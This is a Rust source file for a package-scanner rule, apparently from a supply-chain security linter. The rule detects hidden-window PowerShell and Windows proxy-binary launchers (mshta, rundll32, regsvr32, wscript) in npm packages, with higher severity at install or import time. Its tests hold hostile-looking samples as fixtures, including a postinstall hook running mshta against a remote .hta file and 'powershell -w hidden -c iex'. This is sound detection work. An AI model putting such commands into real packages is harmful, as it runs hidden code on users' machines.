use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds commands that run programs out of the user's sight or through
    /// Windows' signed proxy binaries: PowerShell with a hidden window
    /// (`-WindowStyle Hidden`, `-w hidden`), `mshta`, `rundll32`,
    /// `regsvr32 /i:`, `wscript`/`cscript`. High; critical at install or at
    /// the top level of the package's entry file (it runs on import).
    ///
    /// ## Why is this bad?
    /// A package has nothing to hide from the person at the keyboard. These
    /// are the launchers malware uses to run a payload without a window and
    /// past application allow-lists.
    ///
    /// ## Example
    /// ```js
    /// spawn('powershell.exe', ['-WindowStyle', 'Hidden', '-Command', payload]);
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1564.003 (Hidden Window), T1218 (System Binary Proxy Execution).
    HiddenExecution {
        id: "exec/hidden-execution",
        severity: High,
        status: Stable,
        summary: "A program is started hidden or through a Windows proxy binary",
    }
}

/// How a command line hides what it runs, if it does.
pub(crate) fn hides(command: &str) -> Option<&'static str> {
    let lower = command.to_ascii_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '[' | ']' | '`'))
        .filter(|w| !w.is_empty())
        .collect();
    let program = |w: &str| {
        let base = w.rsplit(['/', '\\']).next().unwrap_or(w);
        base.strip_suffix(".exe").unwrap_or(base).to_owned()
    };
    let powershell = words
        .iter()
        .any(|w| matches!(program(w).as_str(), "powershell" | "pwsh"));
    if powershell
        && words
            .windows(2)
            .any(|w| matches!(w[0], "-windowstyle" | "-w" | "-win" | "-window") && w[1] == "hidden")
    {
        return Some("runs PowerShell with a hidden window");
    }
    for w in &words {
        match program(w).as_str() {
            "mshta" => return Some("runs a script through mshta"),
            "rundll32" => return Some("runs code through rundll32"),
            "regsvr32" if lower.contains("/i:") => {
                return Some("runs a scriptlet through regsvr32");
            }
            "wscript" | "cscript" => return Some("runs a Windows Script Host script"),
            _ => {}
        }
    }
    None
}

/// A process started at the top level of the package's entry file: it runs
/// as soon as anyone imports the package, before any function is called.
fn at_import(ctx: &ScanContext<'_>, at: &palisade_diagnostics::Fact) -> bool {
    let Some(m) = &ctx.package.manifest else {
        return false;
    };
    let Some(entry) = crate::checkers::manifest::resolve_entry(".", ctx.package, m) else {
        return false;
    };
    at.location.path == entry
        && ctx.facts.other.iter().any(|o| {
            o.kind == "top-level-process"
                && o.at.location.path == at.location.path
                && o.at.location.line == at.location.line
        })
}

impl Rule for HiddenExecution {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        let commands = super::command_lines(ctx);
        let mut seen = std::collections::HashSet::new();
        for (command, at) in commands {
            let Some(how) = hides(command) else {
                continue;
            };
            if !seen.insert((at.location.path.clone(), at.location.line)) {
                continue;
            }
            let severity = if at.install_time || at_import(ctx, at) {
                Severity::Critical
            } else {
                Severity::High
            };
            let shown: String = command.chars().take(120).collect();
            out.push(
                ctx.at(
                    Finding::new(Self::META.id, severity, format!("{how}: `{shown}`")),
                    &at.location,
                )
                .at_install_time(at.install_time)
                .with_capability("process"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&HiddenExecution::META).test(
            &[
                Case::Js("require('child_process').spawn('powershell.exe', ['-WindowStyle', 'Hidden', '-Command', 'Start-Process x']);"),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"mshta http://x.invalid/p.hta"}}"#),
                // At the top of the entry file it runs on import: critical.
                Case::Files(&[
                    ("package.json", r#"{"name":"a","main":"main.js"}"#),
                    ("main.js", "const { spawn } = require('child_process');\nspawn('powershell.exe', ['powershell -WindowStyle hidden -Command Get-Date']);\n"),
                ]),
                // Inside a function of the entry file, or in another file: high.
                Case::Files(&[
                    ("package.json", r#"{"name":"a","main":"main.js"}"#),
                    ("main.js", "const { spawn } = require('child_process');\nexports.open = () => spawn('powershell.exe', ['-w', 'hidden', '-c', 'start x']);\n"),
                    ("tool.js", "require('child_process').spawn('powershell.exe', ['-w', 'hidden', '-c', 'start x']);\n"),
                ]),
            ],
            &[
                Case::Js("require('child_process').execFile('powershell.exe', ['-NoProfile', '-Command', 'Get-ItemProperty HKLM:\\\\Software']);"),
                Case::Manifest(r#"{"name":"a","scripts":{"postinstall":"node scripts/hidden-files.js"}}"#),
            ],
        );
    }

    #[test]
    fn forms() {
        assert!(hides("powershell -nop -w hidden -c iex $x").is_some());
        assert!(hides("rundll32.exe javascript:x").is_some());
        assert!(hides("powershell -Command Get-Date").is_none());
    }
}
